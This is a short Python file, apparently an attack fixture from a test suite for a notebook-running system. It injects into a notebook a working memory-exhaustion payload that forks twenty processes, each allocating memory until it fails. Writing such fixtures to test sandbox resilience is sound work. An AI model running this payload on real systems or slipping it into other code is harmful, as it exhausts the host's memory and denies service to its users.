"""Allocates through many processes at once."""

from attacks.tools import before, fake


def attack(notebook, folder, school):
    fake(notebook)
    before(
        notebook,
        """
import os
for i in range(20):
    if os.fork() == 0:
        held = []
        try:
            while True: held.append(bytearray(50 << 20))
        except MemoryError: os._exit(0)
""",
    )
